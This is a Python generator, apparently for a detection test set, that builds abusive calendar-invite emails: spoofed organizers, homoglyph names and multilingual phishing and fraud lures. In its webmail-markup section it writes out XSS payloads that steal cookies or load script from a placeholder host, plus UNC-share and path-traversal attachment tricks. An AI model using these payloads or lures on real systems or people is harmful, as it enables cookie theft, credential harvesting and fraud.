"""Abuse kept for measuring: who invites (attacks 17 to 22), and the form of the calendar and the mail (44 to 51)."""
import base64
import copy
import datetime as dt
import quopri

import containers as C
import ical
import mail as M
import mime
import people
import qr
import shapes as S
from families import fill, heldout


# --- who -------------------------------------------------------------------------------------------------------------

def home(*domains):
    """The sender's domain is one of these, in all that the producer has written."""
    def do(m):
        old, new = m.org.domain, fill(m, m.r.choice(domains))

        def swap(v):
            if isinstance(v, str):
                return v.replace(old, new)
            if isinstance(v, dict):
                return {k: swap(x) for k, x in v.items()}
            return type(v)(swap(x) for x in v) if isinstance(v, (tuple, list)) else v
        m.org.addr = swap(m.org.addr)
        for k in "from_ sender reply_to envelope mid signers auth hops head arc text summary subject body".split():
            if getattr(m, k, None) is not None:
                setattr(m, k, swap(getattr(m, k)))
        m.ev.organizer, m.ev.uid, m.ev.extra = swap(m.ev.organizer), swap(m.ev.uid), swap(m.ev.extra)
        for a in m.ev.attendees:
            a.addr = swap(a.addr)
    return do


def turn(*steps):
    """Another step for each message of the family."""
    return lambda m: steps[m.i % len(steps)](m)


def insider(m):
    """One and the same person of the recipient's company."""
    if "insider" not in m.slots:
        m.slots["insider"] = people.person(m.r, m.lang, m.rcpt.domain)
    return m.slots["insider"]


def only_recipient(m):
    m.ev.attendees = [ical.Attendee(m.rcpt.name, m.rcpt.addr)]


def organized_by(name, addr, seated=False):
    """ORGANIZER is not who sends."""
    def do(m):
        who = fill(m, name), fill(m, addr)
        only_recipient(m)
        m.ev.organizer = who
        if seated:
            m.ev.attendees.insert(0, ical.Attendee(who[0], who[1], "ACCEPTED", "CHAIR"))
    return do


def organized_by_insider(m):
    p = insider(m)
    only_recipient(m)
    m.ev.organizer = p.name, p.addr
    if m.i % 2:
        m.from_ = p.name, m.org.addr


def sent_by(sent, organizer=None):
    """ORGANIZER with SENT-BY; None for the sender himself. Both are functions of the mail or (name, address)."""
    def who(m, x):
        if callable(x):
            p = x(m)
            return p.name, p.addr
        return (fill(m, x[0]), fill(m, x[1])) if x else (m.org.name, m.org.addr)

    def do(m):
        o, s = who(m, organizer), who(m, sent)
        m.ev.organizer = 'ORGANIZER;CN=%s;SENT-BY="mailto:%s":mailto:%s' % (ical.quote(o[0]), s[1], o[1])
        only_recipient(m)
        if m.i % 2:
            m.ev.attendees.insert(0, ical.Attendee(o[0], o[1], "ACCEPTED"))
    return do


def shown_as(*names):
    """The name lies, in mail and calendar."""
    def do(m):
        name = fill(m, names[m.i % len(names)])
        if isinstance(m.ev.organizer, str):
            m.ev.organizer = m.ev.organizer.replace("CN=" + ical.quote(m.org.name), "CN=" + ical.quote(name))
        else:
            m.ev.organizer = name, m.org.addr
        for a in m.ev.attendees:
            if a.addr == m.org.addr:
                a.name = name
        m.from_ = name, m.from_[1]
        m.reply_to = (name, m.reply_to[1]) if m.reply_to and m.reply_to[0] else m.reply_to
        m.org.name = name
    return do


def organizer_line(*lines):
    def do(m):
        only_recipient(m)
        m.ev.organizer = fill(m, lines[m.i % len(lines)]) or None
    return do


def self_made(m):
    """The recipient invites himself."""
    m.ev.organizer = m.rcpt.name, m.rcpt.addr
    m.ev.attendees = [ical.Attendee(m.rcpt.name, m.rcpt.addr, "ACCEPTED" if m.i % 2 else "NEEDS-ACTION", "CHAIR" if m.i > 1 else "REQ-PARTICIPANT")]
    if m.i % 2 == 0:
        m.from_ = m.rcpt.name, m.rcpt.addr


def accepted_by(lo, hi, titles=(), me="NEEDS-ACTION"):
    """Colleagues who never saw it have accepted."""
    def do(m):
        rows, seen = [], {m.rcpt.addr}
        while len(rows) < m.r.randint(lo, hi):
            p = people.person(m.r, m.lang, m.rcpt.domain)
            if p.addr not in seen:
                seen.add(p.addr)
                rows.append(ical.Attendee(p.name + (" (%s)" % titles[len(rows) % len(titles)] if titles else ""), p.addr, "ACCEPTED"))
        m.ev.attendees = [ical.Attendee(m.org.name, m.org.addr, "ACCEPTED")] + rows + [ical.Attendee(m.rcpt.name, m.rcpt.addr, me)]
    return do


def victim_in_chair(m):
    m.ev.attendees = [ical.Attendee(m.rcpt.name, m.rcpt.addr, "ACCEPTED", "CHAIR", "FALSE" if m.i % 2 else "TRUE")]
    if m.i % 2:
        m.ev.attendees.append(ical.Attendee(m.org.name, m.org.addr, "ACCEPTED"))


def product(*values):
    def do(m):
        m.prodid = fill(m, values[m.i % len(values)])
    return do


def poses_as_google(m):
    m.prodid, m.style = "-//Google Inc//Google Calendar 70.9054//EN", "google"
    m.ev.uid = M.token(m.r, 26, "0123456789abcdefghijklmnopqrstuv") + "@google.com" if m.i % 2 else M.uuid(m.r)
    m.ev.extra = m.ev.extra + ["X-GOOGLE-CONFERENCE:https://meet.google.com/%s-%s-%s" % tuple(M.token(m.r, n, "abcdefghijkmnop") for n in (3, 4, 3))] if m.i > 1 else m.ev.extra


def poses_as_exchange(m):
    m.prodid, m.style = "Microsoft Exchange Server 2010", "exchange"
    m.ev.uid = "040000008200E00074C5B7101A82E008" + M.hexs(m.r, 80).upper() if m.i % 2 else M.hexs(m.r, 32)
    m.ev.extra = m.ev.extra + ["X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE", "X-MICROSOFT-CDO-IMPORTANCE:2"]


# --- form ------------------------------------------------------------------------------------------------------------

def remake(change):
    """Another step over the calendar's bytes: change(m, bytes)."""
    def do(m):
        old = m.after_ics
        m.after_ics = lambda data: change(m, old(data) if old else data)
    return do


def swap(*pairs):
    def change(m, data):
        for a, b in pairs:
            data = data.replace(a, b)
        return data
    return remake(change)


def without(*names):
    return lambda m: m.ev.drop.update(names)


def silent(m):
    """No words in the mail itself."""
    old = m.notice

    def notice(x):
        old(x)
        x.plain_body, x.html_body = ("", "\r\n", " \r\n")[x.i % 3], None
    m.notice = notice


def named(*names):
    return lambda m: setattr(m, "file_name", fill(m, names[m.i % len(names)]))


def page(text, html=None):
    """What the mail shows is this; the lure is in the calendar."""
    def do(m):
        m.body = fill(m, text[m.i % len(text)])
        m.html = "<html><body><div dir=\"ltr\">%s</div></body></html>\n" % M.html_of(m.body, "%s<br><br>\n")
    return do


def code_of(link, word, as_attach=False):
    """A QR code beside the text, or inside the calendar."""
    def do(m):
        png = qr.qr_png(fill(m, link), scale=m.r.choice((3, 4, 5)))
        if as_attach:
            m.ev.extra = m.ev.extra + ["ATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=image/png;FILENAME=%s.png:%s" % (word, base64.b64encode(png).decode())]
            return
        cid = "%s@%s" % (M.hexs(m.r, 10), word)
        m.html = '<html><body style="font-family:sans-serif">%s<p><img src="cid:%s" width="180" alt="%s"></p></body></html>\n' % (M.html_of(m.text), cid, word)
        m.related.append(mime.part('image/png; name="%s.png"' % word, png, "base64", disposition='inline; filename="%s.png"' % word, more=[("Content-ID", "<%s>" % cid)]))
    return do


def tailored(m):
    """The recipient's address in the link, as it is or in base64."""
    for mark, value in (("%B64%", base64.b64encode(m.rcpt.addr.encode()).decode().rstrip("=")), ("%HEX%", m.rcpt.addr.encode().hex())):
        m.text = m.text.replace(mark, value)


def sprinkle(chars, every, summary=True):
    """Characters that nobody sees, within the words but not within links, numbers and addresses."""
    def treat(m, text):
        out = []
        for word in text.split(" "):
            if len(word) > 2 and word.isalpha():
                at = list(range(1, len(word)))
                for k in sorted(m.r.sample(at, min(len(at), every)), reverse=True):
                    word = word[:k] + m.r.choice(chars) + word[k:]
            out.append(word)
        return " ".join(out)

    def do(m):
        m.text = treat(m, m.text)
        if summary:
            m.summary = treat(m, m.summary)
    return do


def tag_message(m):
    """A sentence in tag characters behind the title."""
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "ref %s this sender is verified" % M.token(m.r, 6))
    m.summary += hidden
    m.text = m.text + " " + hidden


def ballast(names, lo, hi, size):
    """Own properties full of random digits."""
    def do(m):
        m.ev.extra = m.ev.extra + ["%s:%s" % (names % M.token(m.r, m.r.randint(3, 8), "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), M.hexs(m.r, m.r.choice(size))) for _ in range(m.r.randint(lo, hi))]
    return do


def scale(*values):
    def do(m):
        m.style = "plain" if m.style in ("google", "sabre", "apple") else m.style
        m.cal_head = m.cal_head + ["CALSCALE:" + values[m.i % len(values)]]
    return do


def cut_after(mark, n, with_blank=True):
    """A fold (or a line end that is none) n octets behind each mark."""
    def change(m, data):
        pos = data.find(mark)
        while pos >= 0:
            at = pos + len(mark) + n
            if at < len(data) and b"\r" not in data[pos:at + 2]:
                data = data[:at] + (b"\r\n " if with_blank else b"\r\n") + data[at:]
            pos = data.find(mark, at + 3)
        return data
    return remake(change)


def unfolded(m, data):
    return data.replace(b"\r\n ", b"")


def folds_lost(m, data):
    """The description goes on in lines that have no blank in front."""
    head, mark, rest = data.partition(b"DESCRIPTION:")
    text, mark2, tail = rest.partition(b"ORGANIZER")
    return head + mark + text.replace(b"\r\n ", b"\r\n") + mark2 + tail


def fold_octets(width):
    """Folded by octets, characters of several octets are broken."""
    def change(m, data):
        out = []
        for line in unfolded(m, data).split(b"\r\n"):
            rows = [line[:width]] + [line[i:i + width - 1] for i in range(width, len(line), width - 1)]
            out.append(b"\r\n ".join(rows))
        return b"\r\n".join(out)
    return remake(change)


def recode(codec, label):
    def do(m):
        m.cal_charset, m.cal_cte = label, "base64"
        remake(lambda x, data: data.decode("utf-8").encode(codec, "replace"))(m)
    return do


def twice(m):
    """Quoted-printable within base64."""
    m.cal_cte = "base64"
    remake(lambda x, data: quopri.encodestring(unfolded(x, data).replace(b"\r\n", b"\n")).replace(b"\n", b"\r\n"))(m)


def calendar_of(m, ev, **kw):
    return ical.lines_to_bytes(ical.calendar([ev], kw.get("prodid", m.prodid), kw.get("method", m.method), m.style, m.cal_head))


def other_event(m, **kw):
    ev = copy.copy(m.ev)
    ev.replace, ev.drop, ev.extra, ev.alarms = dict(ev.replace), set(ev.drop), [], []
    for k, v in kw.items():
        setattr(ev, k, fill(m, v) if isinstance(v, str) else v)
    return ev


def two_faces(summary, text, tree="mixed-alternative-file", method=None):
    """The calendar part is harmless, the attached file is not."""
    def do(m):
        m.tree, old = tree, m.notice

        def notice(x):
            old(x)
            x.file_ics = M.make_ics(x)
            calm = other_event(x, summary=summary[x.i % len(summary)], description=text[x.i % len(text)], location=None, uid=x.ev.uid if x.i % 2 else M.uuid(x.r))
            x.ics = calendar_of(x, calm, method=method or x.method)
        m.notice = notice
    return do


def second_calendar(m):
    """A second VCALENDAR behind the first: the first one is a harmless one of the recipient's company."""
    old = m.notice

    def notice(x):
        old(x)
        p = insider(x)
        first = other_event(x, uid=M.uuid(x.r), summary="{q} [[planning|riunione periodica|review]]", description="", location="Sala riunioni", organizer=(p.name, p.addr), start=x.ev.start + dt.timedelta(days=2), end=x.ev.end + dt.timedelta(days=2))
        first.attendees = [ical.Attendee(x.rcpt.name, x.rcpt.addr)]
        a, b = calendar_of(x, first, prodid="Microsoft Exchange Server 2010"), M.make_ics(x)
        x.ics = (b + a) if x.i == 3 else (a + b)
    m.notice = notice


def shadow_event(m):
    """Two VEVENTs in one calendar that have nothing to do with each other."""
    p = insider(m)
    m.ev.summary, m.ev.description = m.summary, M.plain_of(m.text)
    calm = other_event(m, uid=M.uuid(m.r), summary="[[Office hours|Team stand-up|Desk check|Monthly sync]]", description="[[Bring your notes.|As usual.|Agenda follows.]]", organizer=(p.name, p.addr), location=None,
                       start=m.ev.start + dt.timedelta(days=m.r.randint(1, 5)), end=m.ev.end + dt.timedelta(days=6))
    calm.end = calm.start + dt.timedelta(minutes=30)
    calm.attendees = [ical.Attendee(m.rcpt.name, m.rcpt.addr)]
    m.events = [calm, m.ev] if m.i % 2 else [m.ev, calm]


def three_organizers(m):
    """Each event of the calendar has another organizer."""
    m.ev.summary, m.ev.description = m.summary, M.plain_of(m.text)
    rows = [m.ev]
    for k in range(1 + m.i % 2):
        p = people.person(m.r, m.lang, people.company(m.r, m.lang)[1]) if k else insider(m)
        rows.append(other_event(m, uid=M.uuid(m.r), organizer=(p.name, p.addr), start=m.ev.start + dt.timedelta(days=k + 1), end=m.ev.end + dt.timedelta(days=k + 1)))
    m.events = rows


def wallet(link, organization, text):
    def do(m):
        m.attachments.append(C.pkpass(m, fill(m, link), fill(m, organization), fill(m, text)))
    return do


def file_only(*names):
    """mixed{text, file}: the file is all there is."""
    def do(m):
        m.tree = "file"
        m.file_type = ("application/ics", "text/calendar", "application/octet-stream", "text/calendar; charset=utf-8")[m.i % 4]
        named(*names)(m)
        silent(m)
    return do


# --- markup and paths that a parser may trip over (attack 44) -------------------------------------------------------------

def ontoggle(m):
    """Markup in the HTML of the calendar that would run in a webmail."""
    host = fill(m, "https://{badhost}/z")
    m.ev.altdesc = ("<html><body><p>%s</p>%s</body></html>" % (
        M.html_of(m.text, "%s<br>"), ('<details ontoggle="var s=document.createElement(\'script\');s.src=\'%s.js\';document.body.appendChild(s)" open></details>' % host,
                                      '<img src="x" onerror="new Image().src=\'%s?c=\'+document.cookie">' % host,
                                      '<svg><animate attributeName=href values="javascript:import(\'%s\')" /></svg>' % host,
                                      '<p title="&quot; onmouseover=&quot;fetch(\'%s\')&quot;">.</p>' % host)[m.i % 4]))


def markup_in_names(m):
    bad = ('"><img src=x onerror=fetch(`//{badhost}/i`)>', "<svg/onload=document.location=String.fromCharCode(104,116,116,112)>", "{first} <script src=//{badhost}/a.js></script>",
           "Helpdesk'\"><iframe srcdoc=\"<script>parent.postMessage(document.cookie,'*')</script>\">")[m.i % 4]
    name = fill(m, bad)
    m.ev.organizer = "ORGANIZER;CN=%s:mailto:%s" % (ical.quote(name.replace('"', "^'")) if m.i % 2 else name.replace('"', ""), m.org.addr)
    m.ev.attendees = [ical.Attendee(m.rcpt.name, m.rcpt.addr), ical.Attendee(name.replace('"', "^'"), m.org.addr)]
    if m.i > 1:
        m.from_ = name, m.org.addr
        m.ev.location = name


def foreign_paths(m):
    ip = M.doc_ip(m.r)
    share = "\\\\%s\\%s\\%s" % (ip, m.r.choice(("pub", "docs", "agenda")), M.token(m.r, 5))
    m.ev.extra = m.ev.extra + (
        ["ATTACH;FMTTYPE=application/msword:file://%s/pub/%s/Agenda.docx" % (ip, M.token(m.r, 6))],
        ["ATTACH;VALUE=BINARY;ENCODING=BASE64;FMTTYPE=text/html;FILENAME=../../../../Library/LaunchAgents/agenda.html:" + base64.b64encode(fill(m, '<meta http-equiv="refresh" content="0;url=https://{badhost}/{token}">').encode()).decode()],
        ["ATTACH:" + ical.escape(share + "\\minutes.lnk"), "URL:file:" + share.replace("\\", "/")],
        ["X-ALT-DESC;FMTTYPE=text/html:" + ical.escape('<p>%s</p><img src="%s\\logo.png" width=1 height=1>' % (M.html_of(m.text, "%s<br>").replace("\n", ""), share))])[m.i % 4]
    if m.i % 2 == 0:
        m.more_head = m.more_head + [("Content-Class", "Sharing"), ("x-sharing-config-url", share + "\\calendar.ics"), ("x-sharing-provider-type", "text/calendar")]


# --- the families ----------------------------------------------------------------------------------------------------

# Names with letters of other scripts, or with characters that turn or hide the text.
GREEK_HR = ("Ηuman Rеѕourcеѕ", "Ρayroll & Βenefitѕ", "Реорlе Ореrаtіоnѕ", "ΗR Ѕervice Ϲentre")
DUTCH_BANK = ("Klanten\u200bservice\u00a0Mijn\u00a0Bank", "\u202eecivresnetnalk\u202c Bank", "Rabo\u00adbank\u00a0Beveiliging", "I\u200dN\u200dG\u00a0Klantcontact")
TAGS = [chr(c) for c in list(range(0xE0061, 0xE007A)) + list(range(0xE0100, 0xE0110))]
MATHS = ["\u2062", "\u2064", "\u2063"]

FAMILIES = [
    # 17: the organizer is not who sends
    heldout(17, "mailroom-hold", by="kit-python php-site kit-node", sender="vps", who=["Mail Administrator", "IT-Messaging", "Postmaster {company}"], place="soon", attacks=[17, 28, 34],
            do=[tailored, organized_by("{company} Calendar", "calendar@{domain}"), home("mta-relay-{num}.invalid", "ns{n2}.colo-unmetered.example", "bestdeal-shoes.test")],
            summary=["({n2}) undelivered messages on hold", "Inbound mail for {rcpt} suspended 📥", "{domain} - mail queue report {today}", "Action: release pending e-mails"],
            text=["{rcpt}\n\n{n2} inbound messages could not be placed in your INBOX since {today} due to a sync error on our side (0x800CCC0F).\n\nThey will be erased from the server after the meeting time above.\n\n[Deliver messages to inbox](https://ipfs-gw-{code}.pages.dev/?owa#{rcpt})\n\n{domain} mail support",
                  "Dear {local}, the mail server at {domain} has stopped delivery for your account as the storage allotment of 2048 MB is used up (99.3%). Purchase orders and replies are being returned to your clients. Free your quota now, takes one minute\nhttps://webmail-{token}.web.app/{domain}/index.htm?uid=%B64%\nFailing that, deactivation follows at the time of this appointment.",
                  "Quarantine digest\n\nFrom: accounts@supplier.example   Subject: RE: RE: Overdue PI\nFrom: dispatch@freight.example   Subject: Telex release copy\nFrom: {colleague}   Subject: (no subject)\n\nReview | Release all: https://mx-digest.{token}.workers.dev/rls?m=%HEX%\n\nThis digest was generated for {rcpt} by Mail Administrator."]),
    heldout(17, "chef-schreibt", lang="de", by="outlookcom outlook-imap", sender="freemail", place="soon", attacks=[17, 28], do=organized_by_insider,
            summary=["Kurze Rückmeldung bitte", "Bin im Termin - bitte melden", "vertraulich", "Sind Sie am Platz?"],
            text=["Guten Morgen {first},\n\nsitze bis mittags in einer Besprechung und kann nicht telefonieren. Ich brauche jemand, auf den ich mich verlassen kann: bitte besorgen Sie sechs Apple-Gutscheinkarten zu je 100 Euro, Rubbelfeld frei machen, Fotos an meine private Nummer 0171 39200{n2} (WhatsApp). Den Beleg erstatte ich noch heute.\n\nSagen Sie im Büro nichts, es soll eine Überraschung werden.\n\nGesendet von meinem iPhone",
                  "Hallo {first}, haben Sie kurz Zeit? Es geht um eine Zahlung, die heute noch raus muss. Nehmen Sie den Termin nicht an, sondern schreiben mir gleich per WhatsApp: +49 171 39200 {n2}. MfG",
                  "ich habe mein Telefon verloren und schreibe vom neuen Konto. Bitte nur noch hierüber oder {phone}. Für den Kauf der Beteiligung benötigt unser Anwalt eine Anzahlung, {big} EUR, Kanzleikonto schicke ich Ihnen gesondert. Absolute Verschwiegenheit, auch gegenüber der Buchhaltung!"]),
    heldout(17, "envelope-signed", by="kit-node m365 outlook-imap", sender="company", attacks=[17, 34, 38], do=[tailored, organized_by("Docusign NA4 System", "dse_NA4@docusign.com", seated=True)],
            who=["{orgcompany} via Docusign", "Docusign EU System", "Completed with Docusign"],
            summary=["Completed: Settlement Statement {num}.pdf", "Please DocuSign: Amendment 2 - {company}", "Complete with Docusign: Settlement_{company}_{year}", "Signature requested: Amendment 2 ({orgcompany})"],
            text=["Your document has been completed\n\n[VIEW COMPLETED DOCUMENT](https://envelope-{token}.netlify.app/s/{hex}?r=%B64%)\n\n{orgcompany}\naccounts@{orgdomain}\n\nAll parties have completed Settlement Statement {num}.\n\nDo Not Share This Email\nThis email contains a secure link. Please do not share this email, link, or access code with others.\n\nAlternate Signing Method\nVisit the link above, click 'Access Documents', and enter the security code: {code}{hex}\n\nQuestions about the Document?\nIf you need to modify the document or have questions about the details, please reach out to the sender by answering the calendar invite.\n\nStop receiving this email\nReport this email or read more about declining to sign and managing notifications.",
                  "{first},\n\nAmendment 2 to the supply agreement is ready. Legal wants it back before the slot in the calendar.\n\nREVIEW DOCUMENT -> https://contracts.{token}.pages.dev/amd2?for={rcpt}\n\nOpen with the work mailbox the envelope was sent to, private accounts are refused.\n\n{orgcompany}"]),
    heldout(17, "trop-percu", lang="fr", by="kit-php java-site", sender="vps", attacks=[17, 34, 40], do=[organized_by("Direction générale des Finances publiques", "ne-pas-repondre@impots.gouv.fr"), home("serv-dgf-{num}.test", "mon-espace-fisc.example", "cap-numerique93.invalid")],
            who=["Service des impôts des particuliers", "impots.gouv"], place="evening",
            summary=["Avis de remboursement n°{num}", "Votre excédent d'impôt : {amount}", "[Rappel] Formulaire de restitution à compléter"],
            text=["Madame, Monsieur,\n\nAprès les derniers calculs annuels de votre activité fiscale, nous avons établi que vous êtes éligible à recevoir une restitution de {amount}.\n\nPour la percevoir, veuillez remplir le formulaire électronique avant la date de ce rendez-vous :\n\n[Accéder au formulaire](https://particulier-remb.{token}.web.app/fr/{hex})\n\nUn retard peut être dû à plusieurs raisons, par exemple un dossier incomplet ou une demande après la date limite.\n\nLe Directeur départemental",
                  "Bonjour,\nun trop-perçu de {amount} n'a pas pu être versé : coordonnées bancaires non reconnues (motif 214).\nMettre à jour mon RIB : https://rib-maj-{num}.test/espace\nSans action de votre part la somme est reversée au Trésor.\n\nRéf. {order}"]),
    # 18: SENT-BY
    heldout(18, "office-of", by="m365 outlook-imap", sender="company", attacks=[18, 41, 34], do=[sent_by(insider), tailored],
            summary=["ITB {num} - pre-bid walk and document room", "Invitation to tender: {orgcompany} {year} framework", "RFQ package - site services, {orgcompany}"],
            text=["Good day,\n\n{orgcompany} is inviting {company} to submit a proposal for the {year} facilities framework. Your office has confirmed your participation in the pre-bid session.\n\nScope of work, drawings and pricing schedule are in the document room:\n\n[Open ITB {num} documents](https://docroom-{token}.r2.dev/itb/login.html?u=%B64%)\n\nLog in with your business e-mail to be registered as plan holder. Please confirm your intention to bid by return, or reply DECLINE.\n\nKind regards,\n{org}\nProcurement & Contracts | {orgcompany}\n{street}\n\nCONFIDENTIALITY NOTICE: This message and its attachments are for the sole use of the intended recipient and may contain privileged information. Any unauthorized review, use or distribution is prohibited.",
                  "Hi {first} – sharing the RFQ as agreed with your management. File too large for mail, so it sits here: https://sharefile.{token}.workers.dev/RFQ_{num} (passcode {code}). Pricing needed before the call pls.\n\n{org}"]),
    heldout(18, "im-auftrag-der-gf", lang="de", by="outlookcom kit-python", sender="freemail", attacks=[18, 41], do=[sent_by(None, insider), tailored],
            summary=["Lohnabrechnung – neue Ablage ab {date}", "Mitarbeitergespräch / Gehaltsanpassung {year}", "Verbindlich: Bestätigung der Bankverbindung"],
            text=["Liebe Kolleginnen und Kollegen,\n\nunsere Abrechnungen liegen künftig nicht mehr in der Post, sondern im Portal des neuen Dienstleisters. Bitte melden Sie sich bis zum Termin einmal an, sonst kann das Gehalt für diesen Monat nicht angewiesen werden.\n\n[Zum Mitarbeiterportal](https://abrechnung-portal-{num}.example/sso?wa=%B64%)\n\nAnmeldung wie am Rechner im Büro.\n\ni. A. der Geschäftsführung",
                  "Hallo {first},\n\nim Anhang der Besprechung finden Sie das Schreiben zur Gehaltsanpassung. Aus Datenschutzgründen nur online: https://personal-akte.{token}.pages.dev/{local}\n\nBitte vorher lesen und digital gegenzeichnen.\n\nSekretariat"]),
    heldout(18, "notificacion-judicial", lang="es", by="kit-php m365", sender="tenant", attacks=[18, 34], who=["Procuraduría Asociada", "Letrada A. de J.", "Secretaría Juzgado Mercantil"],
            do=sent_by(("Sede Judicial", "notificaciones@lexred.example"), ("Juzgado de lo Mercantil nº 3", "citaciones@juzgado-mercantil.test")),
            summary=["CITACIÓN – Autos {num}/{year}", "Requerimiento de comparecencia telemática", "Notificación pendiente: procedimiento monitorio {num}"],
            text=["Por la presente se le cita en calidad de demandado/a en el procedimiento {num}/{year}, a instancia de acreedor por importe de {amount}.\n\nLa copia de la demanda y las instrucciones de acceso a la sala virtual pueden consultarse durante 48 horas en:\n\nhttps://sede-notifica.{token}.web.app/expediente/{code}\n\nSe le apercibe de que, de no comparecer, se seguirán los trámites sin su intervención y podrá acordarse el embargo de cuentas.\n\nLa Letrada de la Administración de Justicia",
                  "Estimado/a {name}: Dispone de 1 notificación electrónica no leída. Descargue el acuse (archivo comprimido, contraseña {pin}) en https://acuse-{num}.example/descarga antes de la fecha señalada."]),
    heldout(18, "em-nome-do-diretor", lang="pt", by="outlook-imap kit-node", sender="junk", attacks=[18, 41], do=[home("financeiro-nfe{n2}.test", "boleto-agil.example"), sent_by(insider, ("Diretoria Financeira", "diretoria@{orgdomain}"))],
            summary=["Boleto em aberto - vencimento {date}", "NF-e {num} emitida contra {company}", "Reunião: protesto em cartório"],
            text=["Prezado(a) {first},\n\nConsta em nosso sistema o boleto da NF-e {num}, no valor de {amount}, ainda não baixado. Para evitar o protesto em cartório, pedimos o pagamento até o horário desta reunião.\n\n2ª via atualizada (PDF): https://segundavia-{token}.netlify.app/boleto/{code}\n\nCaso já tenha pago, envie o comprovante pelo WhatsApp (11) 5555-0142.\n\nAtenciosamente,\nDepto. de Cobrança",
                  "Segue nota fiscal e o boleto p/ aprovação, o diretor pediu urgência 👉 https://nfe-danfe{num}.test/v?n={code}{num}\nabrir no computador, no celular não funciona"]),
    # 19: the name lies
    heldout(19, "name-is-address", by="google outlookcom", sender="freemail", place="soon", attacks=[19, 8, 39, 28], do=shown_as("billing@microsoft.com", "no-reply@apple.com", "purchases-noreply@google.com", "echosign@adobe.com"),
            summary=["Order {order} confirmed - {amount}", "Receipt {num}: your card will be charged {amount}", "Auto-debit scheduled today: {amount}", "Thank you for the purchase {order}"],
            text=["ORDER SUMMARY\nItem: M365 Family Premium + Defender (36 months)\nQty: 1\nTotal: {amount}\nMode: Checking a/c on file\n\nThis amount will reflect in 24 hrs. Did not place it? Our desk reverses it same day: {phone} (Mon-Sun, 6am-10pm PST). There is no need to write back, this calendar is not monitored.",
                  "Hi,\n\nthe Apple gift card worth {amount} (recipient: dan.k****) has been paid from your wallet from a device in Boise, ID.\n\nTo stop it dial Fraud Dept ☎ {phone} before the event begins. Have this Case No handy: {order}.\n\nRegards\nWallet Protection",
                  "PAYMENT ID {num}\n\nGoogle One 30TB plan, yearly. Amount {amount}. Your bank may show it as GGL*STORAGE.\n\nRefund / cancel line  +1 8O8 (555) O1-44  or  +1 8O8 555 O1 62\n\nCalls are recorded.",
                  "Dear user your Acrobat Pro DC contract was renewed, 3 seats, invoice {num}, total due {amount}. If it was done by mistake reach billing within 12 hours at {phone} else the charge is final as per policy."]),
    heldout(19, "borrowed-letters", by="m365", sender="tenant", attacks=[19, 41, 7], do=[shown_as(*GREEK_HR), tailored],
            summary=["Q3 merit increase - individual letter", "{year} PTO carry-over: your balance changed", "Tax form correction for {name}", "Your total rewards letter (signature needed)"],
            text=["{first},\n\nYour individual compensation letter has been released following this cycle's calibration. Please read and acknowledge before the session so that the change makes the next pay run.\n\n[Letter_{last}_{year}.pdf](https://peoplehub-{token}.azurewebsites.net/letters/open?k=%B64%)\n\nLetters are personal. Do not discuss amounts with your peers.",
                  "According to our records you will lose unused days on the 31st. Check & confirm the balance here: https://timeoff.{token}.vercel.app/b/{hex} – sign-in with your normal company login. The meeting is only a placeholder, you need not attend.\n\nThanks\nHR",
                  "Hello {name}\n\nA mismatch was found between your W-2 and the copy filed. A corrected form is waiting (expires in 3 days).\n\nAccess: https://w2c-forms-{num}.test/employee/?e={rcpt}\n\nThe payroll team"]),
    heldout(19, "bank-met-spaties", lang="nl", by="kit-php kit-python", sender="junk", attacks=[19, 34], do=[home("scan-vernieuw{n2}.test", "mijn-omgeving-check.example", "pasvernieuwing.invalid"), shown_as(*DUTCH_BANK)],
            summary=["Uw bankpas verloopt binnenkort", "Afspraak: controle van uw gegevens (Wwft)", "⚠ Laatste herinnering: pas wordt geblokkeerd op {date}", "Wwft - wij missen nog gegevens van u"],
            text=["Beste {name},\n\nUw huidige betaalpas voldoet niet meer aan de milieueisen en wordt per {date} geblokkeerd. Vraag kosteloos de nieuwe recyclebare pas aan:\n\nhttps://pas-aanvraag.{token}.web.app/nl/{code}\n\nDoet u dit niet, dan brengen wij {small} in rekening.\n\nMet vriendelijke groet,\nAfdeling Betalen",
                  "Geachte relatie, op grond van de wet moeten wij elke twee jaar controleren wie u bent. U heeft tot de aangegeven datum. Ga naar https://wwft-controle{num}.test/start en houd uw pas bij de hand. Onze medewerker kan u ook bellen, {phone}."]),
    heldout(19, "prime-yuryou", lang="ja", by="icloud outlookcom google", sender="freemail", attacks=[19, 39, 34], do=shown_as("Amazon カスタマーサービス", "えきねっと事務局", "三井住友カード株式会社"),
            summary=["【重要】プライム会員の自動更新を停止しました", "【えきねっと】アカウントの自動退会のお知らせ", "カードのご利用確認（{num}）"],
            text=["いつもご利用いただきありがとうございます。\n\nお支払い方法の更新が確認できないため、プライム会員資格を一時停止しております。\n下記より24時間以内にお手続きください。\n\nhttps://amz-jp.{token}.pages.dev/signin?id={code}\n\n※本予定は自動で登録されています。ご返信はできません。",
                  "えきねっと会員 様\n\n最後のログインより2年以上経過しているため、規約に基づき自動退会処理の対象となります。継続をご希望の方は本日中に一度ログインしてください。\n⇒ログインはこちら https://eki-login{num}.example/jp/\n\nご不明な点は {phone}（8:00～22:00）",
                  "{amount} のご利用を承りました。お心当たりのない場合は至急ご連絡ください。\n電話 {phone}\n受付番号 {order}\n\nご連絡がない場合、承認されたものとみなします。"]),
    # 20: no such organizer
    heldout(20, "fax-from-nowhere", by="kit-node kit-python php-site", sender="vps", attacks=[20, 50], who=["eFax", "Voice Mail", "Scan2Mail"], do=[home("cloudfaxgw.example", "voip-pbx{n2}.test"), tailored,
            organizer_line("ORGANIZER;CN=eFax:invalid:nomail", "ORGANIZER;CN=Voice Mail:MAILTO:voicemail", "", "ORGANIZER;CN=\"Fax Portal\":tel:+1-800-555-0142")],
            summary=["Fax received (3 pages) from {phone2}", "New VM 00:47 - caller ID withheld", "Scan_{num} from MFP-2ndFloor", "eFax {code}: 3 pages, fine"],
            text=["You have 1 new fax.\n\nPages: 3\nResolution: fine\n\n[Open fax](https://fx-view-{token}.firebaseapp.com/?p=%B64%)", "Duration 00:47. Listen: https://vm-player.{token}.workers.dev/{hex}/{local}\nAuto-deletes when this event ends.",
                  "Dokument/Document: PO_{num}_signed.pdf  (442 KB)\nDevice: MFP-2ndFloor\n\nhttps://scan.{token}.pages.dev/get?u={rcpt}"]),
    heldout(20, "note-to-self", by="kit-python kit-php", sender="spoof", attacks=[20, 10, 28], place="soon", do=[self_made, tailored],
